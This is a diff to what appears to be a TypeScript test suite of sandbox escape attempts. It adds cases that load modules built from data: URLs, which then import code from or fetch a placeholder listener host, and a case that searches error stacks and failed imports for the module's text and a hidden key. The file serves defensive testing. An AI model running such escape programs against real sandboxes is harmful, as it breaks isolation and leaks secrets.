@@ -16,7 +16,9 @@ const DOORS: Readonly<Record<string, string>> = {
 	'an image bitmap': `await g.createImageBitmap('http://LISTENER/')`,
 	'an import of an address': `await import('http://LISTENER/x.js')`,
 	'an import of a computed address': `await import(['http://LISTENER', 'x.js'].join('/'))`,
-	'an import of data': `await import(['data:text/javascript', 'console.log("escaped")'].join(','))`,
+	// A module may be made of data: it is code in the same scope, behind the same walls.
+	'an import from a module made of data': `await import(['data:text/javascript', 'await import("http://LISTENER/x.js"); console.log("escaped")'].join(','))`,
+	'fetch from a module made of data': `await import(['data:text/javascript', 'await fetch("http://LISTENER/"); console.log("escaped")'].join(','))`,
 	importScripts: `importScripts('http://LISTENER/x.js')`,
 	'a Worker at an address': `new Worker('http://LISTENER/x.js')`,
 	'a Worker made of data': `new Worker('data:text/javascript,postMessage(1)')`,
@@ -90,6 +92,14 @@ export const ESCAPES: readonly HostileCase[] = [
 		name: 'reads the address of the site from its errors',
 		unprepared: true,
 		program: `const seen = [new Error('x').stack, import.meta.url, String(globalThis.origin), String(globalThis.location)];\ntry { null.x; } catch (e) { seen.push(e.stack); }\nfor (const text of seen) if (/https?:|127\\.0\\.0\\.1|localhost/.test(String(text))) console.log('escaped', text);`,
+		ending: 'finished',
+		onlyInPage: true,
+	},
+	{
+		name: 'looks for the text of its module, and the key in it',
+		// A module that asks for `import.meta` has an address without text; this one's address is its text.
+		unprepared: true,
+		program: `const seen = [new Error('x').stack, String(globalThis.location)];\ntry { null.x; } catch (e) { seen.push(...Object.getOwnPropertyNames(e).map((name) => e[name])); }\nfunction deep() { deep(); }\ntry { deep(); } catch (e) { seen.push(e.stack); }\nawait import('./nowhere.js').catch((e) => seen.push(e.message, e.stack));\nfor (const text of seen) if (/data:|sourceURL|yieldpoint/.test(String(text))) console.log('escaped', text);`,
 		ending: 'finished',
 		onlyInPage: true,
 	},
